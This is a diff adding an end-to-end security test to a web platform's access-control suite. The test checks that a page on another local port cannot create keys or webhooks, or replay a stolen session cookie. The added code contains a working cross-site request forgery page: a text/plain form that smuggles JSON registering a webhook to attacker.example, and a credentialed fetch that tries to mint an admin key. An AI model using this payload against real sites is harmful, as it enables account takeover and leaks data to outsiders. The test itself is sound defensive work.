@@ -1,5 +1,7 @@
 /** @file Who may do what, in the page: keys made, rotated and revoked, a project made and bounded, and all of it written down. */
 import { mkdir } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { createPlatform, type Platform, type TestApi } from '../support/index.js';
@@ -111,4 +113,41 @@ it('shows keys and the audit trail to admins alone', async () => {
   expect(await page.getByRole('button', { name: 'Make project' }).count()).toBe(0);
   expect(errors).toEqual([]);
   await close();
+});
+
+it('gives a program on another port of the host nothing to act with', async () => {
+  const { webhook, apiKey } = platform.db;
+  const before = [await webhook.count(), await apiKey.count()];
+  const cookies: string[] = [];
+  const key = JSON.stringify({ name: 'stolen', role: 'admin', installation: true });
+  const other = createServer((request, response) => {
+    cookies.push(request.headers.cookie ?? '');
+    response.setHeader('content-type', 'text/html').end(`<!doctype html>
+      <form method="post" action="${api.url}/v1/webhooks" enctype="text/plain">
+        <input name='{"url": "https://attacker.example/", "events": ["sweep.completed"], "x": "' value='"}'>
+      </form>
+      <script>
+        fetch('${api.url}/v1/keys', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '${key}' })
+          .finally(() => document.forms[0].submit());
+      </script>`);
+  });
+  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
+  const { page, close } = await openPage(browser, api.url);
+  await signInByLink(page, platform.keys.admin, '/access');
+  await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
+  await page.waitForURL(`${api.url}/v1/webhooks`);
+
+  // The browser did send the cookie of the session there. Whoever receives it may replay it as they like.
+  const cookie = cookies.find((line) => line.includes('rankforge_session='))!;
+  expect(cookie).not.toContain('rf_');
+  for (const [method, body] of [['GET'], ['POST', key]] as const) {
+    const headers = { cookie, 'sec-fetch-site': 'same-origin', 'content-type': 'application/json' };
+    const replayed = await fetch(`${api.url}/v1/keys`, { method, headers, ...(body ? { body } : {}) });
+    expect(replayed.status).toBe(401);
+  }
+  expect([await webhook.count(), await apiKey.count()]).toEqual(before);
+  await page.goto(`${api.url}/access`);
+  await page.getByRole('tab', { name: 'Keys' }).waitFor();
+  await close();
+  other.close();
 });
